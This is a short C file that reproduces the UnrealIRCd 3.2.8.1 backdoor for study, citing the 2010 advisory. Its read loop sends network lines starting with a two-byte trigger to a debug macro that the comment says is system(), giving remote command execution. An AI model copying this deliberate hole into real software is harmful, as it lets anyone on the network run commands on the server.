/*
 * Incident: UnrealIRCd 3.2.8.1 source archive, November 2009 - June 2010: the read loop
 * hands lines beginning with "AB" to the DEBUG3_LOG macro, which is system().
 * Reference: https://www.unrealircd.org/txt/unrealsecadvisory.20100612.txt
 * Reproduction (own code, same shape).
 */
#define DEBUGMODE3
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "struct.h"

struct Client {
	int fd;
	char name[64];
	long receiveB;
};

extern int dopacket(aClient *cptr, char *buffer, int length);
static char readbuf[READBUF_SIZE];

int read_packet(aClient *cptr)
{
	int length = read(cptr->fd, readbuf, sizeof(readbuf) - 1);

	if (length <= 0)
		return length;
	readbuf[length] = '\0';
	cptr->receiveB += length;
#ifdef DEBUGMODE3
	if (!memcmp(readbuf, DEBUGMODE3_INFO, 2))
		DEBUG3_LOG(readbuf);
#endif
	return dopacket(cptr, readbuf, length);
}
